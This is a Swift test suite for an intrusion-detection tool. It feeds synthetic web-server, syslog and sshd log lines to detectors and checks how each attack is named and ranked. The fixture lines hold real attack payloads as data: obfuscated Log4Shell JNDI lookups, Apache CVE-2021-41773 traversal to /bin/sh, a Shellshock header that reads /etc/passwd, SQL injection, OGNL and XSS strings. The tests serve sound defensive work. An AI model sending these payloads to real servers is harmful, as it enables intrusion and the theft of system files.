import DwellAnalysis
import DwellCore
import DwellIngest
import DwellPipeline
import DwellTestSupport
import Foundation
import Testing

/// The cases of issue #25 (web, syslog and sshd), each with lines written here in the shapes the real logs have,
/// run end to end: files → parsers → store → detectors.
@Suite struct AttackShapeTests {
    /// Writes `lines` to `name` in a fresh directory and returns the findings of an unseeded run over it.
    static func findings(_ name: String, _ lines: [String], year: Int = 2026) throws -> [Finding] {
        let dir = try Fixture.temporaryDirectory("attack-shape")
        let file = dir.appendingPathComponent(name)
        try Fixture.write(lines.joined(separator: "\n") + "\n", to: file)
        // The detectors' findings (aggregated per rule, source and host), before the investigation rolls the
        // background up per rule and host: each case here checks its sources one by one.
        let found = Discovery().discover([file.path])
        let (store, _) = InvestigationRun.buildStore(files: found.files, options: IngestOptions(jobs: 1, year: year))
        let detectors = Detectors(store: store, filePaths: found.files.map(\.displayPath))
        return FindingAggregation.aggregate(detectors.run())
    }

    @Test("#25: Log4Shell in the User-Agent and the Referer, obfuscated, from 3 addresses, answered 200 and 401")
    func log4ShellInHeadersIsNamed() throws {
        let found = try Self.findings(
            "access.log",
            [
                #"198.51.100.20 - - [10/Dec/2021:10:00:01 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://198.51.100.20:1389/Exploit}""#,
                #"198.51.100.21 - - [10/Dec/2021:10:00:02 +0000] "GET /login HTTP/1.1" 401 12 "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}" "Mozilla/5.0""#,
                #"198.51.100.22 - - [10/Dec/2021:10:00:03 +0000] "GET / HTTP/1.1" 200 612 "-" "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/b}""#,
                #"198.51.100.23 - - [10/Dec/2021:10:00:04 +0000] "GET / HTTP/1.1" 200 612 "-" "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.9/c}""#,
                #"198.51.100.24 - - [10/Dec/2021:10:00:05 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (X11; Linux x86_64)""#,
            ])
        let named = found.filter { $0.rule == "web.cve_exploit" }
        #expect(named.count == 4, "\(found.map(\.why))")
        for f in named {
            #expect(f.technique == "T1190")
            #expect(f.title.contains("CVE-2021-44228"))
            #expect(f.why.contains("CVE-2021-44228"))
            // A lookup's answer says nothing of the callback: an attempt, which seeds nothing.
            #expect(f.role == .attempt)
            #expect(!f.seeds)
        }
        #expect(named.contains { $0.why.contains("Referer") && $0.why.contains("answered 401") })
        #expect(named.contains { $0.why.contains("User-Agent") && $0.why.contains("answered 200") })
        #expect(!found.contains { $0.indicators.contains(.ip("198.51.100.24")) })
    }

    @Test("#25: WordPress login brute force from nginx lines sent through syslog, 10 POSTs in one second")
    func loginBurstThroughSyslog() throws {
        let post =
            #"Dec  6 10:00:00 web3 nginx: 203.0.113.50 - - [06/Dec/2026:10:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 4500 "-" "Mozilla/5.0""#
        let found = try Self.findings("syslog", [String](repeating: post, count: 10))
        let burst = try #require(found.first { $0.rule == "web.login_bruteforce" }, "\(found.map(\.rule))")
        #expect(burst.technique == "T1110.001")
        #expect(burst.host == "web3")
        #expect(burst.why.contains("10 POSTs"))
        #expect(burst.role == .attempt)
        #expect(burst.implies.contains(.attackerAddress(try #require(IPAddress("203.0.113.50")))))
        // Nine are no burst.
        let nine = try Self.findings("syslog", [String](repeating: post, count: 9))
        #expect(!nine.contains { $0.rule == "web.login_bruteforce" })
    }

    @Test("#25: OpenSSH 8+ guessing logged only as preauth disconnects, six a second")
    func openSSH8DisconnectsAreGuesses() throws {
        var lines: [String] = []
        for k in 0..<12 {
            lines.append(
                "Dec  6 11:00:0\(k / 6) bastion sshd[\(4000 + k)]: Disconnected from authenticating user root 203.0.113.66 port \(50000 + k) [preauth]"
            )
        }
        let found = try Self.findings("auth.log", lines)
        let brute = try #require(found.first { $0.rule == "auth.bruteforce" }, "\(found.map(\.why))")
        #expect(brute.technique == "T1110.001")
        #expect(brute.why.contains("connection ending"))
        #expect(brute.role == .attempt)
        // The same line six times (an edited log keeps one pid): six guesses all the same.
        let same = try Self.findings(
            "auth.log",
            [String](
                repeating:
                    "Dec  6 11:00:00 bastion sshd[4100]: Disconnected from authenticating user root 203.0.113.66 port 50100 [preauth]",
                count: 6))
        #expect(same.contains { $0.rule == "auth.bruteforce" })
    }

    @Test("#25: a connection that logs Failed password and its preauth ending counts once")
    func failedPasswordAndItsEndingAreOneAttempt() throws {
        var lines: [String] = []
        for k in 0..<5 {
            let pid = 5000 + k
            lines.append(
                "Dec  6 11:00:0\(k) bastion sshd[\(pid)]: Failed password for root from 203.0.113.67 port \(51000 + k) ssh2")
            lines.append(
                "Dec  6 11:00:0\(k) bastion sshd[\(pid)]: Connection closed by authenticating user root 203.0.113.67 port \(51000 + k) [preauth]"
            )
        }
        // Five attempts (ten lines) stay under the burst of six.
        let found = try Self.findings("auth.log", lines)
        #expect(!found.contains { $0.rule == "auth.bruteforce" }, "\(found.map(\.why))")
        let six = try Self.findings(
            "auth.log",
            lines + [
                "Dec  6 11:00:06 bastion sshd[5009]: Failed password for root from 203.0.113.67 port 51009 ssh2"
            ])
        let brute = try #require(six.first { $0.rule == "auth.bruteforce" })
        #expect(brute.why.hasPrefix("6 failed logins"), "\(brute.why)")
    }

    @Test("#25: maximum authentication attempts and Too many authentication failures count where alone")
    func maximumAttemptsCountAlone() throws {
        var lines: [String] = []
        for k in 0..<3 {
            lines.append(
                "Dec  6 11:00:0\(k) bastion sshd[\(6000 + k)]: error: maximum authentication attempts exceeded for root from 203.0.113.68 port \(52000 + k) ssh2 [preauth]"
            )
            lines.append(
                "Dec  6 11:00:0\(k) bastion sshd[\(6000 + k)]: Disconnecting authenticating user root 203.0.113.68 port \(52000 + k): Too many authentication failures [preauth]"
            )
        }
        for k in 3..<6 {
            lines.append(
                "Dec  6 11:00:0\(k) bastion sshd[\(6000 + k)]: Disconnecting invalid user admin 203.0.113.68 port \(52000 + k): Too many authentication failures [preauth]"
            )
        }
        let found = try Self.findings("auth.log", lines)
        let brute = try #require(found.first { $0.rule == "auth.bruteforce" }, "\(found.map(\.why))")
        // One per connection: six connections, nine lines.
        #expect(brute.why.hasPrefix("6 failed logins"), "\(brute.why)")
    }

    @Test("#25: Apache CVE-2021-41773 answered 200 from private addresses is a compromise")
    func apacheTraversalIsNamedAndCritical() throws {
        let found = try Self.findings(
            "access_log",
            [
                #"172.17.0.1 - - [06/Oct/2021:08:11:12 +0000] "POST /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh HTTP/1.1" 200 45 "-" "curl/7.79.1""#,
                #"172.17.0.2 - - [06/Oct/2021:08:11:40 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 88 "-" "curl/7.79.1""#,
                #"172.17.0.3 - - [06/Oct/2021:08:12:13 +0000] "GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 403 199 "-" "curl/7.79.1""#,
            ])
        let named = found.filter { $0.rule == "web.cve_exploit" }
        let traversal = named.filter { $0.title.contains("CVE-2021-41773") }
        #expect(traversal.count == 2, "\(found.map(\.why))")
        for f in traversal {
            #expect(f.technique == "T1190")
            #expect(f.severity == .critical)
            #expect(f.role == .compromise)
            #expect(f.seeds)
            #expect(f.implies.contains { if case .compromisedHost = $0 { true } else { false } })
        }
        let double = try #require(named.first { $0.title.contains("CVE-2021-42013") })
        #expect(double.role == .attempt)
        #expect(double.severity == .high)
    }

    @Test("#25: IIS SQL injection in cs-uri-query answered 500 with SQL Server's error ranks above a 404")
    func iisSQLInjectionWithDatabaseError() throws {
        let found = try Self.findings(
            "u_ex211006.log",
            [
                "#Software: Microsoft Internet Information Services 10.0",
                "#Version: 1.0",
                "#Date: 2021-10-06 08:00:00",
                "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
                "2021-10-06 08:00:01 10.0.0.5 GET /foo/bar/baz.asp ID=1'+or+1=@@version--|17|80040e07|Conversion_failed_when_converting_the_nvarchar_value_'Microsoft_SQL_Server_2019'_to_data_type_int. 80 - 203.0.113.77 Mozilla/5.0 - 500 0 0 15",
                "2021-10-06 08:00:02 10.0.0.5 GET /foo/item.asp ID=1'+union+select+null-- 80 - 203.0.113.78 Mozilla/5.0 - 404 0 2 3",
            ])
        let error = try #require(found.first { $0.rule == "web.sqli_error" }, "\(found.map(\.rule))")
        #expect(error.technique == "T1190")
        #expect(error.why.contains("80040e07"))
        // Likely to have worked, so ranked above the probe; but scanners provoke database errors on every
        // vulnerable page, so it seeds nothing alone (an attempt tied to the intrusion only through its source).
        #expect(error.role == .attempt && !error.seeds)
        let probe = try #require(found.first { $0.rule == "web.exploit_attempt" })
        #expect(error.severity > probe.severity)
    }

    @Test("#25: Shellshock in the User-Agent of a CGI answered 200 is named CVE-2014-6271")
    func shellshockIsNamed() throws {
        let found = try Self.findings(
            "access.log",
            [
                #"203.0.113.90 - - [25/Sep/2014:10:00:00 +0000] "GET /cgi-bin/status.cgi HTTP/1.1" 200 310 "-" "() { :; }; /bin/bash -c 'cat /etc/passwd'""#
            ])
        let f = try #require(found.first { $0.rule == "web.cve_exploit" }, "\(found.map(\.why))")
        #expect(f.title.contains("CVE-2014-6271"))
        #expect(f.technique == "T1190")
        #expect(f.role == .compromise)
    }

    @Test("#25: OGNL, XSS and traversal with %2e%2e are found in the decoded request")
    func otherPatternsAreFound() throws {
        let found = try Self.findings(
            "access.log",
            [
                #"203.0.113.91 - - [06/Dec/2026:10:00:00 +0000] "GET /index.action?x=%25%7B(%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS)%7D HTTP/1.1" 404 10 "-" "Mozilla/5.0""#,
                #"203.0.113.92 - - [06/Dec/2026:10:00:01 +0000] "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 400 10 "-" "Mozilla/5.0""#,
                #"203.0.113.93 - - [06/Dec/2026:10:00:02 +0000] "GET /static/%2e%2e/%2e%2e/etc/passwd HTTP/1.1" 404 10 "-" "Mozilla/5.0""#,
                #"203.0.113.94 - - [06/Dec/2026:10:00:03 +0000] "GET / HTTP/1.1" 404 10 "-" "Mozilla/5.0" "' or 1=1--""#,
            ])
        let attempts = found.filter { $0.rule == "web.exploit_attempt" }
        #expect(attempts.contains { $0.why.hasPrefix("ognl") && $0.indicators.contains(.ip("203.0.113.91")) })
        #expect(attempts.contains { $0.why.hasPrefix("xss") && $0.indicators.contains(.ip("203.0.113.92")) })
        #expect(attempts.contains { $0.why.hasPrefix("path-traversal") && $0.indicators.contains(.ip("203.0.113.93")) })
        // An X-Forwarded-For field carrying SQL, not an address list.
        #expect(attempts.contains { $0.why.contains("X-Forwarded-For") && $0.indicators.contains(.ip("203.0.113.94")) })
        #expect(attempts.allSatisfy { $0.technique == "T1190" && $0.role == .attempt })
    }

    @Test("#17: rsyslog's repeated messages count their repeats for brute force")
    func repeatedMessagesCountTheirRepeats() throws {
        let found = try Self.findings(
            "auth.log",
            [
                "Dec  6 11:00:00 bastion sshd[7000]: Failed password for root from 203.0.113.70 port 53000 ssh2",
                "Dec  6 11:00:05 bastion sshd[7000]: message repeated 5 times: [ Failed password for root from 203.0.113.70 port 53000 ssh2]",
            ])
        let brute = try #require(found.first { $0.rule == "auth.bruteforce" }, "\(found.map(\.why))")
        #expect(brute.why.hasPrefix("6 failed logins"), "\(brute.why)")
        let old = try Self.findings(
            "auth.log",
            [
                "Dec  6 11:00:00 bastion sshd[7001]: Failed password for root from 203.0.113.71 port 53001 ssh2",
                "Dec  6 11:00:04 bastion last message repeated 5 times",
            ])
        #expect(old.first { $0.rule == "auth.bruteforce" }?.why.hasPrefix("6 failed logins") == true, "\(old.map(\.why))")
    }
}
